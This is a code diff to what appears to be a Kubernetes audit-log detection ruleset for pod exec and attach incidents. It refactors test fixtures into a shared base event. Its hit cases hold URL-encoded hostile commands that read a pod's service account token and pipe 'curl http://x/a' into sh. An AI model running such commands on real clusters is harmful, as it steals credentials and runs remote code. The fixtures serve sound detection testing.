@@ -3,8 +3,6 @@ import { incidents } from "../incidents.ts";
 import { targetText } from "../words.ts";
 import { commandOf, dangerOf } from "./commands.ts";
 
-const POD = { namespace: "shop", name: "web-1" };
-
 export const exec = incidents({
   id: "exec",
   about: "somebody ran a command in a pod, or attached to it",
@@ -18,23 +16,9 @@ export const exec = incidents({
     "GuardDuty: ExecInKubeSystemPod",
   ],
   wants: "resource:pods/exec,pods/attach -actor:controller,apiserver,scheduler,node",
-  hits: [
-    [{ user: "kofi", verb: "get", resource: "pods/attach", ...POD, code: 101 }],
-    [{ user: "kofi", verb: "create", resource: "pods/exec", ...POD, query: "command=sh&stdin=true", code: 101 }],
-  ],
-  misses: [
-    [{ user: "kofi", verb: "get", resource: "pods/log", ...POD }],
-    [
-      {
-        user: "kofi",
-        verb: "get",
-        resource: "pods/exec",
-        ...POD,
-        query: "command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fx",
-        code: 101,
-      },
-    ],
-  ],
+  usual: { user: "kofi", verb: "get", resource: "pods/exec", namespace: "shop", name: "web-1" },
+  hits: [[{ resource: "pods/attach", code: 101 }], [{ verb: "create", query: "command=sh&stdin=true", code: 101 }]],
+  misses: [[{ resource: "pods/log" }], [{ query: "command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fx", code: 101 }]],
   judge: ({ facts }) => {
     const command = commandOf(facts.uri);
     if (dangerOf(command) !== null) return null;
@@ -63,32 +47,12 @@ export const execCommand = incidents({
     "Take the pod's tokens and passwords for known, renew them, and look at what the same person did before and after.",
   references: ["T1609", "T1552.001", "T1059.004", "T1105", "Stratus: k8s.credential-access.steal-serviceaccount-token"],
   wants: "resource:pods/exec -actor:controller,apiserver,scheduler,node",
+  usual: { user: "kofi", verb: "get", resource: "pods/exec", namespace: "shop", name: "web-1", code: 101 },
   hits: [
-    [
-      {
-        user: "kofi",
-        verb: "get",
-        resource: "pods/exec",
-        ...POD,
-        query: "command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken",
-        code: 101,
-      },
-    ],
-    [
-      {
-        user: "kofi",
-        verb: "create",
-        resource: "pods/exec",
-        ...POD,
-        query: "command=sh&command=-c&command=curl+http%3A%2F%2Fx%2Fa+%7C+sh",
-        code: 101,
-      },
-    ],
+    [{ query: "command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken" }],
+    [{ verb: "create", query: "command=sh&command=-c&command=curl+http%3A%2F%2Fx%2Fa+%7C+sh" }],
   ],
-  misses: [
-    [{ user: "kofi", verb: "get", resource: "pods/exec", ...POD, query: "command=ls&command=%2Ftmp", code: 101 }],
-    [{ user: "kofi", verb: "create", resource: "pods/exec", ...POD, query: "command=sh&stdin=true", code: 101 }],
-  ],
+  misses: [[{ query: "command=ls&command=%2Ftmp" }], [{ verb: "create", query: "command=sh&stdin=true" }]],
   judge: ({ facts }) => {
     const command = commandOf(facts.uri);
     const danger = dangerOf(command);
